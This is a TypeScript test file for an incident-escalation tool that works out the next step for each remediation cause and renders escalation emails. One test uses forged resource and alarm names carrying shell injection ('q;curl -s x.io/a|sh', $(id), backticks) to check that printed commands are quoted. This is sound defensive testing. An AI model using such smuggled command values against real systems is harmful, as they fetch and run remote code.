// The escalation's NEXT STEP by cause: every cause has one, and none re-runs a runbook that would refuse the same way.
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { isIncidentCause, nextStepForCause, type CauseStepContext } from '../../../shared/escalation/cause-next-step';
import { INCIDENT_CAUSES } from '../../../shared/escalation/incident';
import { buildMessageView } from '../../../shared/escalation/message-view';
import { renderEmail } from '../../../shared/escalation/render-email';
import { approvalIncident, capReachedIncident, policy, runtime } from './fixtures';

const rows = runtime().config.troubleshooting;
const production = policy('production');

function sourceFiles(directory: string): string[] {
  return readdirSync(directory).flatMap((name) => {
    const path = join(directory, name);
    return statSync(path).isDirectory() ? sourceFiles(path) : path.endsWith('.ts') ? [path] : [];
  });
}

/** Every `cause: '<code>'` the shared code writes, as the reviewer found them (grep "cause: '" shared). */
const emitted = [
  ...new Set(sourceFiles(join(__dirname, '../../../shared')).flatMap((file) => [...readFileSync(file, 'utf8').matchAll(/\bcause: '([a-z-]+)'/g)].map((m) => m[1] ?? ''))),
].sort();

/**
 * Where running the row's runbook can change the outcome: for the DR standby, whose row's runbook is the failover itself,
 * not the watch again; and a change the kill switch held back, which the row's document makes once the switch is off (a
 * document run is decided afresh on the alarm's current state, decision 379). Everywhere else it invokes the same
 * automation, which decides the same way; after a failure or an alarm answered without its state time the step is the
 * cause first (the page says the document decides afresh once it is fixed, decision 379; amends 167).
 */
const ROW_RUNBOOK_CAN_HELP: ReadonlyArray<[cause: string, playbook: string | undefined]> = [['diagnosis', 'watch-standby'], ['guardrail/kill-switch', undefined]];

const playbooks = rows.map((r) => r.handler);
const guardrails = [undefined, 'cooldown', 'hourly-budget', 'dr-region', 'approval-required', 'kill-switch'];
const outcomes = ['escalate', 'applied', 'dry-run'];

function contextFor(cause: string, playbook: string, extra: Partial<CauseStepContext> = {}): CauseStepContext {
  const rowRunbook = rows.find((r) => r.handler === playbook)?.runbook;
  return { cause, playbook, environment: 'production', resourceId: 'notification-service-queue', ...(rowRunbook ? { rowRunbook } : {}), ...extra };
}

describe('nextStepForCause', () => {
  it('knows every cause the shared code writes as a literal (a new one without a step fails here)', () => {
    // 12 of the 14: approval-required and guardrail are chosen by a conditional (run-playbook.ts), not written as `cause: '...'`.
    expect(emitted.length).toBeGreaterThanOrEqual(11);
    expect(emitted.filter((cause) => !isIncidentCause(cause))).toEqual([]);
  });

  it.each([...INCIDENT_CAUSES])('gives %s a step of its own: a title and at least one line, for every playbook', (cause) => {
    for (const playbook of playbooks) {
      const step = nextStepForCause(contextFor(cause, playbook));
      expect(step.title).not.toMatch(/^Read the reason above$/);
      expect(step.title.length).toBeGreaterThan(10);
      expect(step.lines.length + (step.run ? 1 : 0)).toBeGreaterThan(0);
    }
  });

  it("never offers the row's runbook where it would run the same automation into the same refusal", () => {
    const offered: string[] = [];
    for (const cause of INCIDENT_CAUSES) {
      for (const playbook of playbooks) {
        for (const guardrail of guardrails) {
          for (const outcome of outcomes) {
            const step = nextStepForCause(contextFor(cause, playbook, { ...(guardrail ? { guardrail } : {}), outcome }));
            if (step.run === 'row') offered.push(`${cause}${cause === 'guardrail' && guardrail ? `/${guardrail}` : ''} ${playbook}`);
          }
        }
      }
    }
    const allowed = (entry: string): boolean => ROW_RUNBOOK_CAN_HELP.some(([cause, playbook]) => entry.startsWith(`${cause} `) && (playbook === undefined || entry.endsWith(` ${playbook}`)));
    expect([...new Set(offered.filter((entry) => !allowed(entry)))]).toEqual([]);
    // ...and it is offered where it helps; never after a failure, whose cause comes first (decision 167).
    expect(offered).toContain('diagnosis watch-standby');
    expect(offered.filter((entry) => entry.startsWith('failure ') || entry.startsWith('alarm-time-unknown '))).toEqual([]);
  });

  it.each([
    // [situation, the document offered, a phrase the step must say, context]
    ['consumers at the cap', 'no document', 'environments.production.scaleConsumers.maxConcurrency', contextFor('cap-reached', 'scale-consumers')],
    ['memory at the cap', 'no document', 'environments.production.raiseLambdaMemory.maxMemoryMb', contextFor('cap-reached', 'raise-lambda-memory')],
    ['database at the top of the ladder', 'no document', 'environments.production.scaleUpDatabase.ladder', contextFor('cap-reached', 'scale-up-database')],
    ['database saturated while the queue backs up', 'no document', 'NotificationService-ScaleUpDatabase', contextFor('cross-playbook', 'scale-consumers')],
    ['a consumer failing on poison messages', 'no document', 'DLQ', contextFor('consumer-failing', 'scale-consumers')],
    ['a change the health check reverted', 'no document', 'Do not run NotificationService-RaiseLambdaMemory', contextFor('made-worse', 'raise-lambda-memory')],
    ['a change whose signal had no data', 'no document', 'runbook history notification-service-queue', contextFor('unverifiable', 'scale-consumers')],
    ['the hourly budget spent', 'no document', 'flaps', contextFor('guardrail', 'scale-consumers', { guardrail: 'hourly-budget' })],
    ['a blocked DB resize with its document named', 'the named document', 'behind approval', contextFor('guardrail', 'scale-up-database', { guardrail: 'cooldown', named: 'NotificationService-ScaleUpDatabase' })],
    ['the standby region held back', 'no document', 'NotificationService-FailoverToDR', contextFor('guardrail', 'scale-consumers', { guardrail: 'dr-region', named: 'NotificationService-ScaleConsumers' })],
    ['a production resize that needs approval', 'the named document', 'approver', contextFor('approval-required', 'scale-up-database', { named: 'NotificationService-ScaleUpDatabase' })],
    ['approval needed and no document makes the change', 'no document', 'by hand', contextFor('approval-required', 'scale-consumers')],
    ['a missing rule the document can add', 'the named document', 're-checks', contextFor('diagnosis', 'inspect-security-groups', { named: 'NotificationService-TroubleshootConnectionTimeout' })],
    ['a DB diagnosis', 'no document', 'max_connections', contextFor('diagnosis', 'check-db-connections')],
    ['the remediation failed', 'no document', 'decides a document run afresh on the alarm\'s current state', contextFor('failure', 'scale-consumers')],
    ['a scale-up the kill switch held back', "the row's runbook", 'put the switch back to off (the notice at the top of this message gives the command), then run NotificationService-ScaleConsumers', contextFor('guardrail', 'scale-consumers', { guardrail: 'kill-switch' })],
    ['a change the kill switch held back on a row without a document', 'no document', 'make it by hand', contextFor('guardrail', 'alert-error-rate', { guardrail: 'kill-switch' })],
    ['the remediation failed, a document named', 'no document', 'make the change by hand', contextFor('failure', 'scale-up-database', { named: 'NotificationService-ScaleUpDatabase' })],
    ['a change not made: the alarm answered without its state time', 'no document', "Look at the alarm's history", contextFor('alarm-time-unknown', 'scale-consumers')],
    ['a failure on a row without a document', 'no document', 'by hand', contextFor('failure', 'alert-error-rate')],
    ['a raise that needs a publish', 'the named document', 'publish a new version', contextFor('publish-required', 'raise-lambda-memory', { named: 'NotificationService-RaiseLambdaMemory' })],
    ['still firing after a dry run', 'no document', 'nothing was changed', contextFor('still-firing', 'scale-consumers', { outcome: 'dry-run' })],
    ['still firing after a change', 'no document', 'one step per alarm state change', contextFor('still-firing', 'scale-consumers', { outcome: 'applied' })],
    ['an error-rate alert', 'no document', 'alert and escalate', contextFor('alarm', 'alert-error-rate')],
  ] as const)('%s: offers %s and says "%s"', (_situation, offered, phrase, ctx) => {
    const step = nextStepForCause(ctx);
    expect(step.run).toBe({ 'no document': undefined, 'the named document': 'named', "the row's runbook": 'row' }[offered]);
    expect([step.title, ...step.lines].join('\n')).toContain(phrase);
  });

  it('offers nothing it cannot name: a named step without a named document falls back to text only', () => {
    expect(nextStepForCause(contextFor('approval-required', 'scale-up-database')).run).toBeUndefined();
    expect(nextStepForCause({ cause: 'failure', environment: 'production' }).run).toBeUndefined();
  });

  // Review 12, R12-3: a command a person pastes carries a resource or alarm name as one quoted word, never as shell.
  it('quotes the resource and alarm names in the commands it prints', () => {
    const forged = contextFor('unverifiable', 'scale-consumers', { resourceId: "q;curl -s x.io/a|sh", alarmName: 'Depth > 1000 $(id) `id` it\'s', region: 'us-east-1' });
    expect(nextStepForCause(forged).lines.join('\n')).toContain("runbook history 'q;curl -s x.io/a|sh'");
    const failed = nextStepForCause({ ...forged, cause: 'failure' });
    expect(failed.lines.join('\n')).toContain("`runbook plan --alarm 'Depth > 1000 $(id) `id` it'\\''s' -e production --region us-east-1`");
  });

  it('says an unknown cause has no step of its own, and offers no document', () => {
    expect(nextStepForCause(contextFor('from-a-newer-handler', 'scale-consumers'))).toEqual({
      title: 'Read the reason above',
      lines: ['The cause "from-a-newer-handler" has no step of its own here: read the reason and the findings.'],
    });
  });
});

describe('the escalation email (review 10a, finding 3: the demo\'s incident A)', () => {
  const l1 = production.tiers[0];
  const now = new Date('2026-11-25T14:00:06.000Z');
  const saturated = capReachedIncident({
    cause: 'cross-playbook',
    reason:
      'not scaling consumers of notification-service-queue: database notification-service-db is saturated (412 of 450 connections, 92%, at or above 80%, read by check-db-connections at 2026-11-25T13:58:00.000Z); more consumers would open more connections',
    decision: { ...capReachedIncident().decision!, cause: 'cross-playbook', reason: 'not scaling consumers ... saturated' },
  });

  it.each([
    ['cap-reached', capReachedIncident()],
    ['cross-playbook', saturated],
  ])('for %s offers no run of NotificationService-ScaleConsumers', (_cause, incident) => {
    if (!l1) throw new Error('tiers');
    const { text } = renderEmail(buildMessageView({ kind: 'opened', incident, tier: l1, sent: [], policy: production, rows, now }));
    expect(text).not.toContain('--document-name NotificationService-ScaleConsumers');
    expect(text).not.toContain('NEXT STEP: Run NotificationService-ScaleConsumers');
    expect(text).toMatch(/NEXT STEP: .+\n {2}\S/);
  });

  it('for cross-playbook points at the database and says why more consumers would hurt', () => {
    if (!l1) throw new Error('tiers');
    const { text } = renderEmail(buildMessageView({ kind: 'opened', incident: saturated, tier: l1, sent: [], policy: production, rows, now }));
    const step = text.slice(text.indexOf('NEXT STEP')).split('\n\n')[0] ?? '';
    expect(step).toContain('NEXT STEP: Work the database first: more consumers would make it worse');
    expect(step).toContain('NotificationService-CheckDbConnections');
    expect(step).toContain('NotificationService-ScaleUpDatabase');
    expect(step).toContain('more consumers would push it further past max_connections');
  });

  it('names who approves and where the request goes in the page that hands L1 a document behind approval (review 11a finding 8)', () => {
    if (!l1) throw new Error('tiers');
    const incident = approvalIncident();
    const approvers = { principals: ['role/NotificationServiceRunbookApprover', 'arn:aws:iam::222222222222:user/dba'], minRequiredApprovals: 1 };
    const { text } = renderEmail(buildMessageView({ kind: 'opened', incident, tier: l1, sent: [], policy: production, rows, now, approvers }));
    const step = text.slice(text.indexOf('NEXT STEP')).split('\n\n')[0] ?? '';
    expect(step).toContain(`1 of its approvers (arn:aws:iam::${incident.account}:role/NotificationServiceRunbookApprover, arn:aws:iam::222222222222:user/dba) must approve`);
    expect(step).toContain(`the SNS topic arn:aws:sns:us-east-1:${incident.account}:Automation-notification-runbooks-approvals`);
    expect(step).toContain('Whoever starts it must not be an approver');
    // Without the configuration's approvers the page names nobody rather than guess.
    const bare = renderEmail(buildMessageView({ kind: 'opened', incident, tier: l1, sent: [], policy: production, rows, now })).text;
    expect(bare).not.toContain('Automation-notification-runbooks-approvals');
  });
});
